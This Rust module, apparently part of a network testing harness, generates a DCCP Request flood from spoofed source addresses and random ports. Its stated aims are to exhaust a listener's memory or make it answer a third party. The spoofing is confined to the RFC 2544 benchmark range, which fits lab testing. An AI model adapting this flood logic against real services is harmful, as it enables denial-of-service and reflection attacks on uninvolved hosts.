//! Requests from addresses that are not the attacker's, to fill a listener's memory or to make it answer somebody else.

use crate::every::{self, Every};
use crate::{Context, Endpoint, Shot, Way, packets};
use headway_dccp::{Body, OptionArea};
use headway_units::{Bytes, Dialect, Duration, Instant, OptionError, Seq48};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// The first of the spoofed addresses, of the block for benchmarks (RFC 2544): 198.18.0.0/15.
const FIRST: u32 = u32::from_be_bytes([198, 18, 0, 0]);
const ADDRESSES: u32 = 1 << 17;

/// Options of `kind = "flood"`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Options {
    /// From one Request to the next, at least 1us.
    pub interval: Duration,
    /// How many addresses it spoofs, each with every port; 1: somebody whom the listener shall answer.
    #[schemars(range(min = 1, max = 131_072))]
    pub sources: u32,
    /// Options that say nothing, at most 1000B: the more, the longer the answers may be.
    pub padding: Bytes,
}

/// Fewer than any header has room for.
const MOST_PADDING: u64 = 1000;

impl headway_units::Options for Options {
    fn preset(_: Dialect) -> Self {
        Self { interval: Duration::from_millis(1), sources: ADDRESSES, padding: Bytes::new(0) }
    }

    fn check(&self) -> Result<(), OptionError> {
        every::check(self.interval)?;
        if self.padding.count() > MOST_PADDING {
            let message = format!("{} is out of range: at most {MOST_PADDING}B", self.padding);
            return Err(OptionError::new("padding", message));
        }
        if (1..=ADDRESSES).contains(&self.sources) {
            return Ok(());
        }
        Err(OptionError::new("sources", format!("{} is out of range: from 1 to {ADDRESSES}", self.sources)))
    }
}

/// The attack under way.
#[derive(Debug)]
pub struct Flood {
    sources: u32,
    padding: Vec<u8>,
    every: Every,
    context: Context,
}

impl Flood {
    pub(crate) fn new(options: &Options, context: Context) -> Self {
        let every = Every::new(context.start, context.stop, options.interval);
        let padding = vec![0; (options.padding.count() as usize).next_multiple_of(4)];
        Self { sources: options.sources, padding, every, context }
    }

    pub(crate) fn poll_transmit(&mut self, now: Instant) -> Option<Shot> {
        if !self.every.beats(now) {
            return None;
        }
        let Context { target, random, .. } = &mut self.context;
        let address = Ipv4Addr::from_bits(FIRST + random.below(self.sources.into()) as u32);
        let source = Endpoint { address, port: random.below(1 << 16) as u16 };
        let (seq, service) = (Seq48::new(random.bits()), target.service);
        let options = OptionArea::new(&self.padding).unwrap_or(OptionArea::EMPTY);
        Some(packets::shot(target, Way::ToServer, source, seq, Body::Request { service }, options, 0))
    }

    pub(crate) fn poll_timeout(&self) -> Option<Instant> {
        self.every.next()
    }
}
